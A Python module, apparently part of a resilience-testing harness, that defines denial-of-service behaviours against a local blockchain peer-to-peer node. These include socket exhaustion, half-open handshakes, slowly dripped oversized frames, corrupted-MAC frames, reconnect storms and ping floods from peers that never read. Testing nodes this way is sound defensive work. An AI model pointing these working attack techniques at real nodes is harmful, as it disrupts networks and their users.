"""Connections that cost more than they give."""

import os
import socket

from attack import behaviour
from rlp import encode
from wire import EMPTY, PING, TRANSACTIONS, Closed, parse_enode


def hold(attack, ports, count):
    """Keeps `count` silent connections open, and replaces those that end."""
    held = []
    while attack.goes_on():
        try:
            if len(held) < count:
                port = ports[len(held) % len(ports)]
                each = socket.create_connection(("127.0.0.1", port), timeout=1)
                each.setblocking(False)
                held.append(each)
                attack.counters.add("connections")
                continue
        except OSError:
            attack.counters.add("refused")
            attack.wait(0.05)
        held = [each for each in held if is_open(each)]
        attack.wait(0.2)


def is_open(each):
    try:
        if each.recv(1):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    each.close()
    return False


@behaviour("chain", peers=4)
def many_of_one_host(attack):
    """Makes sixty peers from one host, and more when some are disconnected."""
    sessions = []
    while attack.goes_on():
        try:
            if len(sessions) < 15:
                sessions.append(attack.connect())
                continue
        except Closed:
            pass
        sessions = [session for session in sessions if not session.over]
        attack.wait(0.2)


@behaviour("chain", peers=4)
def reconnects(attack):
    """Becomes a peer and disconnects at once, repeatedly."""
    attack.again(lambda session: None, pause=0)


@behaviour("chain")
def half_handshakes(attack):
    """Begins handshakes and does not finish them."""
    _, port, _ = parse_enode(attack.enode)
    while attack.goes_on():
        held = []
        try:
            for _ in range(40):
                each = socket.create_connection(("127.0.0.1", port), timeout=1)
                each.sendall((400).to_bytes(2, "big") + b"\x04" + os.urandom(100))
                held.append(each)
                attack.counters.add("connections")
        except OSError:
            attack.counters.add("refused")
        attack.wait(0.5)
        for each in held:
            each.close()


@behaviour("chain", peers=2, files=1_024)
def idle_connections(attack):
    """Holds a thousand silent connections to a node with a limit of 1,024 open files."""
    hold(attack, attack.ports, 500)


@behaviour("chain", peers=4)
def dripped_frames(attack):
    """Sends frames of 9 MB a few bytes at a time, from forty sessions."""
    body = os.urandom(9 << 20)
    frames = []
    while attack.goes_on():
        try:
            if len(frames) < 10:
                session = attack.connect()
                with session.lock:
                    frames.append((session, session.raw_frame(TRANSACTIONS, body), [0]))
                continue
            for session, frame, at in frames:
                # Half of it at once, the rest slowly.
                count = len(frame) // 2 if at[0] == 0 else 16
                session.write(frame[at[0] : at[0] + count])
                at[0] += count
        except Closed:
            frames = [one for one in frames if not one[0].over]
        attack.wait(0.1)


@behaviour("chain")
def broken_frames(attack):
    """Disconnects in the middle of a frame, or sends one with a wrong MAC, and reconnects."""

    def act(session, turn=[0]):
        turn[0] += 1
        with session.lock:
            frame = session.frame(TRANSACTIONS, encode([bytes(200)] * 5))
            broken = frame[:-5] if turn[0] % 2 else frame[:-1] + bytes([frame[-1] ^ 1])
            session.write(broken)
        attack.wait(0.02)

    attack.again(act, pause=0)


@behaviour("chain", peers=8)
def silent_readers(attack):
    """Sends only pings, and never reads its socket."""

    def act(session):
        while attack.goes_on():
            session.send(PING, EMPTY)
            attack.wait(0.005)

    attack.again(act, reads=False)
